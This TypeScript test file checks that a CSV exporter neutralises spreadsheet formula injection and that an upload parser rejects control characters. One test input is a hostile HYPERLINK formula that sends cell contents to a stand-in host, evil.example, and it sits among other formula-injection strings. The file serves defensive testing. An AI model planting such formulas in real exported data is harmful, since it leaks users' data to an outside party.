import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { parseCsvUpload, toCsv } from './csv.ts'

describe('toCsv', () => {
  it('prefixes a single quote to text a spreadsheet would run as a formula', () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1+1)', '-2+3', '@SUM(1)', '\tTAB', '\rCR', '＝1+1']
    const [row] = parse(toCsv([formulas])) as string[][]
    assert.deepEqual(
      row,
      formulas.map((formula) => `'${formula}`),
    )
  })

  it('keeps ordinary text and numbers, negative ones included, as they are', () => {
    assert.equal(toCsv([['Ada Lovelace', 'a-b@example.org', '2026-12-07', 42, -3, 0]]), 'Ada Lovelace,a-b@example.org,2026-12-07,42,-3,0\n')
  })
})

describe('parseCsvUpload', () => {
  it('refuses a file holding a control character, naming its line and column', () => {
    const read = (text: string) => parseCsvUpload(Buffer.from(text), { required: ['name'], expected: 'name, email' })
    assert.deepEqual(read('name,email\nAda\tLovelace,ada@example.org\n'), [{ name: 'Ada\tLovelace', email: 'ada@example.org' }])
    assert.throws(() => read('name,email\nAda,ada@example.org\nnul\u0000,nul@example.org\n'), /Line 3, column name, holds a control character \(U\+0000\)/)
  })
})
